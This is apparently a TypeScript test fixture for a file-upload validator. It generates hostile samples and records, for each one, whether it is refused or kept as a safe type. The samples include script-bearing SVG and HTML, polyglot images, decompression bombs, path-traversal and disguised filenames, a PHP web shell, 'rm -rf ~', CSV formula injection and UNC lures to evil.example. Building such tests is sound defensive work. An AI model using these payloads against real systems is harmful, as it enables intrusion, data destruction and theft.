import { crc32, deflateRawSync, gzipSync } from 'node:zlib'
import { exif, gif, jpeg, jpegSegment, jpegWith, png, pngChunk, webp, webpChunk, webpWith } from './pictures.ts'

/** In everything that must not come through: found in what is served, it shows. */
export const canary = 'zqhostilecanary'
const script = `<script>document.title='${canary}'</script>`

export interface HostileFile {
  what: string
  name: string
  bytes: Buffer
  /** Refused by one of these codes, or kept as this kind and served so that nothing in it acts. */
  fate: { refused: readonly string[] } | { kept: string }
}

const text = (words: string) => Buffer.from(words, 'utf8')
const refused = (...codes: string[]) => ({ refused: codes })
const kind = refused('file_type_refused')

/** A ZIP of one deflated file; `claims` is what its head says that it has unpacked. */
function zip(name: string, content: Buffer, claims = content.length): Buffer {
  const packed = deflateRawSync(content)
  const entry = (signature: number, central: boolean) => {
    const head = Buffer.alloc(central ? 46 : 30)
    const shift = central ? 2 : 0
    head.writeUInt32LE(signature, 0)
    head.writeUInt16LE(20, 4 + shift)
    head.writeUInt16LE(8, 8 + shift)
    head.writeUInt32LE(crc32(content), 14 + shift)
    head.writeUInt32LE(packed.length, 18 + shift)
    head.writeUInt32LE(claims >>> 0, 22 + shift)
    head.writeUInt16LE(name.length, 26 + shift)
    return Buffer.concat([head, Buffer.from(name, 'latin1')])
  }
  const local = Buffer.concat([entry(0x04034b50, false), packed])
  const central = entry(0x02014b50, true)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}

const utf16 = (words: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(words, 'utf16le')])
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='${canary}'">${script}</svg>`

const pages: [what: string, bytes: Buffer][] = [
  ['SVG with a script', text(svg)],
  ['SVG behind an XML head', text(`<?xml version="1.0"?>\n${svg}`)],
  ['SVG behind a comment', text(`<!-- ${'x'.repeat(300)} -->\n${svg}`)],
  ['SVG behind a document type with entities', text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]>${svg}`)],
  ['SVG behind a byte order mark', text(`\ufeff${svg}`)],
  ['SVG in UTF-16', utf16(svg)],
  ['SVG with a prefix', text(`<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>`)],
  ['SVG that loads another', text(`<svg><image href="https://evil.example/x"/><use href="#x"/></svg>`)],
  ['SVG with a foreign object', text(`<svg><foreignObject><body>${script}</body></foreignObject></svg>`)],
  ['HTML', text(`<!doctype html><html><body>${script}</body></html>`)],
  ['HTML without a head', text(`<body onload="document.title='${canary}'">`)],
  ['HTML in other letters', text(`\n\t<HtMl><ScRiPt>1</sCrIpT>`)],
  ['a script alone', text(script)],
  ['an iframe alone', text(`<iframe srcdoc="${canary}"></iframe>`)],
  ['a picture that errs', text(`<img src=x onerror="document.title='${canary}'">`)],
  ['HTML in UTF-16', utf16(`<html>${script}`)],
  ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
  ['a style sheet that transforms', text(`<?xml version="1.0"?><xsl:stylesheet version="1.0"></xsl:stylesheet>`)],
  ['a base that moves links', text(`<base href="https://evil.example/">`)],
  ['a form', text(`<form action="https://evil.example"><input name=password></form>`)],
  ['a refresh', text(`<meta http-equiv=refresh content="0;url=https://evil.example">`)],
]

const programs: [what: string, bytes: Buffer][] = [
  ['a Windows program', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['a Linux program', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)])],
  ['a Mac program', Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(200)])],
  ['WebAssembly', Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.alloc(50)])],
  ['Flash', Buffer.concat([text('FWS'), Buffer.from([10]), Buffer.alloc(200)])],
  ['a Windows installer', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])],
  ['a shortcut', Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(200)])],
  ['a Java archive', zip('META-INF/MANIFEST.MF', text('Manifest-Version: 1.0\n'))],
  ['a Java class', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(100)])],
  ['gzip that grows a thousandfold', gzipSync(Buffer.alloc(20_000_000))],
  ['an archive of another kind', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(60)])],
  ['a TIFF', Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(60)])],
  ['an icon', Buffer.concat([Buffer.from('00000100010010100000010020006804', 'hex'), Buffer.alloc(80)])],
  ['a bitmap', Buffer.concat([text('BM'), Buffer.alloc(80)])],
  ['an HEIC', Buffer.concat([Buffer.from('0000001866747970686569630000000068656963', 'hex'), Buffer.alloc(50)])],
  ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n(%stdin) (r) file\n')],
  ['a rich text', text('{\\rtf1\\ansi{\\object\\objocx}}')],
  ['noise', Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 197 + 31) % 256))],
  ['zeros', Buffer.alloc(500)],
]

const big = { width: 65_535, height: 65_535 }
const tooBig = refused('picture_too_large')
const broken = refused('file_broken', 'file_type_refused')

function gifOf(width: number, height: number): Buffer {
  const it = Buffer.from(gif)
  it.writeUInt16LE(width, 6)
  it.writeUInt16LE(height, 8)
  return it
}
function gifFrame(width: number, height: number): Buffer {
  const it = Buffer.from(gif)
  const at = it.lastIndexOf(0x2c)
  it.writeUInt16LE(width, at + 5)
  it.writeUInt16LE(height, at + 7)
  return it
}
function jpegOf(width: number, height: number): Buffer {
  const it = Buffer.from(jpeg)
  const at = it.indexOf(Buffer.from([0xff, 0xc0]))
  it.writeUInt16BE(height, at + 5)
  it.writeUInt16BE(width, at + 7)
  return it
}
function webpOf(width: number, height: number): Buffer {
  const it = Buffer.from(webp)
  it.writeUIntLE(width - 1, 24, 3)
  it.writeUIntLE(height - 1, 27, 3)
  return it
}

const words = (data: string) => Buffer.from(data, 'latin1')
const pictures: [what: string, name: string, bytes: Buffer, fate: HostileFile['fate']][] = [
  ['a PNG with a page behind it', 'a.png', Buffer.concat([png(), text(`<html>${script}`)]), { kept: 'image/png' }],
  ['a PNG with a ZIP behind it', 'a.zip', Buffer.concat([png(), zip('a.html', text(canary))]), { kept: 'image/png' }],
  [
    'a PNG with a page in its words',
    'a.png',
    png({ extra: [pngChunk('tEXt', words(`Comment\0${script}`))] }),
    { kept: 'image/png' },
  ],
  [
    'a PNG with a page in its packed words',
    'a.png',
    png({ extra: [pngChunk('zTXt', words(`x\0\0${canary}`))] }),
    { kept: 'image/png' },
  ],
  [
    'a PNG that says where it was taken',
    'a.png',
    png({ extra: [pngChunk('eXIf', words(`MM\0*${canary}`))] }),
    { kept: 'image/png' },
  ],
  ['a PNG with a profile', 'a.png', png({ extra: [pngChunk('iCCP', words(`x\0\0${canary}`))] }), { kept: 'image/png' }],
  ['a PNG with a chunk of its own', 'a.png', png({ extra: [pngChunk('paYl', words(canary))] }), { kept: 'image/png' }],
  ['a PNG with a wrong sum', 'a.png', damaged(png(), 40), broken],
  ['a PNG without pixels', 'a.png', png().subarray(0, 33), broken],
  ['a PNG that breaks off', 'a.png', png().subarray(0, 60), broken],
  ['a PNG of nothing', 'a.png', png({ says: { width: 0, height: 4 } }), broken],
  ['a PNG of four thousand million pixels', 'a.png', png({ says: big }), tooBig],
  ['a PNG as wide as a number can be', 'a.png', png({ says: { width: 2_147_483_647, height: 1 } }), tooBig],
  ['a PNG that is long and thin', 'a.png', png({ says: { width: 1, height: 100_000 } }), tooBig],
  ['a PNG whose chunk is as long as a number can be', 'a.png', lengthOf(png(), 33, 0xffff_ffff), broken],
  [
    'a signature of a PNG before a page',
    'a.png',
    Buffer.concat([png().subarray(0, 8), text(`<html>${script}`)]),
    broken,
  ],
  ['a JPEG with a page in its comment', 'a.jpg', jpegWith(jpegSegment(0xfe, text(script))), { kept: 'image/jpeg' }],
  ['a JPEG that says where it was taken', 'a.jpg', jpegWith(exif(6, canary)), { kept: 'image/jpeg' }],
  [
    'a JPEG with notes of a program',
    'a.jpg',
    jpegWith(jpegSegment(0xed, text(canary)), jpegSegment(0xe2, text(canary))),
    { kept: 'image/jpeg' },
  ],
  ['a JPEG with a page behind it', 'a.html', Buffer.concat([jpeg, text(`<html>${script}`)]), { kept: 'image/jpeg' }],
  ['a JPEG with a PDF behind it', 'a.pdf', Buffer.concat([jpeg, text(`%PDF-1.7 ${canary}`)]), { kept: 'image/jpeg' }],
  [
    'a JPEG with a preview in its head',
    'a.jpg',
    jpegWith(jpegSegment(0xe0, Buffer.concat([words('JFXX\0\x10'), text(canary)]))),
    { kept: 'image/jpeg' },
  ],
  ['a JPEG of four thousand million pixels', 'a.jpg', jpegOf(65_535, 65_535), tooBig],
  ['a JPEG of nothing', 'a.jpg', jpegOf(0, 4), broken],
  ['a JPEG that breaks off', 'a.jpg', jpeg.subarray(0, jpeg.length - 20), broken],
  [
    'a JPEG with a note that leads round in a circle',
    'a.jpg',
    jpegWith(jpegSegment(0xe1, words('Exif\0\0MM\0*\xff\xff\xff\xff' + '\0'.repeat(20)))),
    { kept: 'image/jpeg' },
  ],
  [
    'a head of a JPEG before a script',
    'a.jpg',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), text(`=1;/*${script}*/`)]),
    broken,
  ],
  ['a GIF with a comment', 'a.gif', gifWith(words(`!\xfe\x0f${canary}\0`)), { kept: 'image/gif' }],
  [
    'a GIF with a note of a program',
    'a.gif',
    gifWith(words(`!\xff\x0bXMP DataXMP\x0f${canary}\0`)),
    { kept: 'image/gif' },
  ],
  ['a GIF with a page behind it', 'a.gif', Buffer.concat([gif, text(`<html>${script}`)]), { kept: 'image/gif' }],
  ['a GIF that is a script', 'a.js', text(`GIF89a/*${'x'.repeat(20)}*/=1;document.title='${canary}'`), broken],
  [
    'a GIF with a Java archive behind it',
    'a.jar',
    Buffer.concat([gif, zip('META-INF/MANIFEST.MF', text(canary))]),
    { kept: 'image/gif' },
  ],
  ['a GIF of four thousand million pixels', 'a.gif', gifOf(65_535, 65_535), tooBig],
  ['a GIF with a frame larger than itself', 'a.gif', gifFrame(65_535, 65_535), tooBig],
  ['a GIF that breaks off', 'a.gif', gif.subarray(0, 30), broken],
  ['a WebP that says where it was taken', 'a.webp', webpWith(webpChunk('EXIF', text(canary))), { kept: 'image/webp' }],
  [
    'a WebP with a page in its notes',
    'a.webp',
    webpWith(webpChunk('XMP ', text(`<x>${canary}</x>`))),
    { kept: 'image/webp' },
  ],
  ['a WebP with a chunk of its own', 'a.webp', webpWith(webpChunk('JUNK', text(canary))), { kept: 'image/webp' }],
  ['a WebP with a page behind it', 'a.webp', Buffer.concat([webp, text(`<html>${script}`)]), { kept: 'image/webp' }],
  ['a WebP of sixteen million squared', 'a.webp', webpOf(16_777_216, 16_777_216), tooBig],
  ['a WebP that breaks off', 'a.webp', webp.subarray(0, 60), broken],
]

function damaged(bytes: Buffer, at: number): Buffer {
  const it = Buffer.from(bytes)
  it.writeUInt8(it.readUInt8(at) ^ 0xff, at)
  return it
}
function lengthOf(bytes: Buffer, at: number, length: number): Buffer {
  const it = Buffer.from(bytes)
  it.writeUInt32BE(length, at)
  return it
}
function gifWith(block: Buffer): Buffer {
  return Buffer.concat([gif.subarray(0, 19), block, gif.subarray(19)])
}

/** Opened as what they are called they would act; they are words, saved as words. */
const scripts: [what: string, name: string, words: string][] = [
  ['a shell script', 'install.sh', '#!/bin/sh\nrm -rf ~'],
  ['a batch file', 'readme.txt.bat', '@echo off\r\ndel /q *'],
  ['a script of Windows', 'invoice.pdf.js', 'WScript.Shell'],
  ['PHP', 'shell.php', "<?php system($_GET['c']);"],
  ['a web application', 'run.hta', 'window.close()'],
  ['a shortcut of the web', 'bank.url', '[InternetShortcut]\nURL=file://evil.example/share'],
  ['settings of a folder', 'desktop.ini', '[.ShellClassInfo]\nIconResource=\\\\evil.example\\x'],
  ['a formula in a table', 'customers.csv', '=HYPERLINK("https://evil.example","x"),1\n'],
  ['settings of a server', '.htaccess', 'AddType application/x-httpd-php .png'],
  ['a library that is a text', 'x.dll', 'MX not a program'],
  ['what every scanner knows', 'eicar.com', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
  ['a page in the middle of a log', 'server.log', `12:00 GET / 500\n<html>${script}</html>\n12:01 ok`],
  ['Python', 'a.py', 'import os; os.system("id")'],
]

/** Names that lead elsewhere, hide what they end in, or write heads of their own. The file is a picture. */
const names: string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers\\etc\\hosts',
  '/etc/cron.d/x',
  'C:\\autoexec.bat',
  '\\\\evil.example\\share\\x.png',
  'photo\u202Egnp.exe',
  'photo\u2066\u202Egpj.scr\u2069',
  'invoice.pdf.exe',
  'holiday.jpg                                                                   .exe',
  'a.png/.',
  '....//....//x',
  '%2e%2e%2fetc%2fpasswd',
  'con.png',
  'NUL',
  'aux.tar.gz',
  '.bashrc',
  '~.png',
  'x.png:evil.exe',
  'x.png::$DATA',
  '"; filename="evil.exe',
  "a'; filename*=UTF-8''evil.exe",
  '<img src=x onerror=alert(1)>.png',
  'a|b&c;d`e$(f).png',
  '\u200b\u200d\ufeff.exe',
  'x.exe\u00a0',
  'x.exe.',
  'e\u0301\u0301\u0301\u0301'.repeat(60),
  '🧨'.repeat(200),
  'x'.repeat(990),
  '．．／．．／etc',
]

/** What is sent to break this (S10): each with what must become of it. */
export const hostileFiles: readonly HostileFile[] = [
  ...pages.map(([what, bytes], i) => ({
    what,
    name: ['a.svg', 'a.png', 'a.html', 'a.txt', 'a'][i % 5] ?? 'a',
    bytes,
    fate: kind,
  })),
  ...programs.map(([what, bytes], i) => ({ what, name: ['a.png', 'a.txt', 'a.pdf'][i % 3] ?? 'a', bytes, fate: kind })),
  ...pictures.map(([what, name, bytes, fate]) => ({ what, name, bytes, fate })),
  ...scripts.map(([what, name, said]) => ({ what, name, bytes: text(said), fate: { kept: 'text/plain' } })),
  ...names.map((name) => ({
    what: `a picture called ${JSON.stringify(name).slice(0, 50)}`,
    name,
    bytes: png(),
    fate: { kept: 'image/png' },
  })),
  { what: 'nothing', name: 'a.png', bytes: Buffer.alloc(0), fate: refused('file_empty') },
  {
    what: 'a byte more than is taken',
    name: 'a.txt',
    bytes: Buffer.alloc(10 * 1024 * 1024 + 1, 'x'),
    fate: refused('file_too_large'),
  },
  {
    what: 'a ZIP that grows a thousandfold',
    name: 'a.zip',
    bytes: zip('x', Buffer.alloc(50_000_000)),
    fate: { kept: 'application/zip' },
  },
  {
    what: 'an Office document whose contents grow a thousandfold',
    name: 'a.docx',
    bytes: zip('[Content_Types].xml', Buffer.alloc(50_000_000, ' ')),
    fate: { kept: 'application/zip' },
  },
  {
    what: 'a ZIP that says another size',
    name: 'a.zip',
    bytes: zip('../../x', text('x'), 4_000_000_000),
    fate: { kept: 'application/zip' },
  },
  {
    what: 'a PDF that runs a script',
    name: 'a.pdf',
    bytes: text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF`),
    fate: { kept: 'application/pdf' },
  },
]
